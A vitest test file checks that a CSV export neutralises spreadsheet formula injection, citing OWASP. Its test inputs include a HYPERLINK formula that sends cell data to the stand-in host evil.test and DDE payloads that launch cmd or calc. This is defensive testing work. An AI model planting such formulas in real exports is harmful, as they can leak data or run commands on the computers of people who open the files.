import { describe, expect, it } from 'vitest';

import { csvCell, neutraliseFormula } from '../../src/core/csvCell';
import { csvField, messagesToCsv, utf8ByteLength } from '../../src/core/har';
import { buildExport } from '../../src/core/exportFile';
import type { Session } from '../../src/core/model';

describe('csvCell (formula injection, OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://evil.test/?"&A1,"click")', `"'=HYPERLINK(""http://evil.test/?""&A1,""click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['', ''],
    ['{"a":1}', '"{""a"":1}"'],
  ])('%j -> %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
    expect(csvField(input)).toBe(expected);
  });

  it('keeps real numbers numeric, negative ones included', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(3.5)).toBe('3.5');
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell(true)).toBe('true');
  });

  it('neutraliseFormula leaves safe text alone', () => {
    expect(neutraliseFormula('hello=world')).toBe('hello=world');
    expect(neutraliseFormula('=1')).toBe("'=1");
  });

  it('is applied to every text cell of the CSV export', () => {
    const preview = '=HYPERLINK("http://evil.test","x")';
    const session: Session = {
      id: 's',
      startedAt: 0,
      connections: [
        {
          id: '@conn',
          frameUrl: '',
          url: '=cmd|x',
          protocols: [],
          createdAt: 0,
          messages: [{ index: 0, direction: 'send', time: 1, opcode: 1, size: utf8ByteLength(preview), preview, truncated: false }],
        },
      ],
      pageEvents: [],
      notes: [],
      dropped: { messages: 0, previews: 0, rejected: 0 },
    };
    const rows = messagesToCsv(session).split('\r\n');
    expect(rows[1]).toBe(`'@conn,'=cmd|x,0,send,1970-01-01T00:00:00.001Z,1,${utf8ByteLength(preview)},,false,"'=HYPERLINK(""http://evil.test"",""x"")"`);
    const file = buildExport(session, { format: 'csv' }).text;
    for (const cell of file.split(/[,\r\n]/)) expect(cell).not.toMatch(/^"?[=+@]/);
  });
});
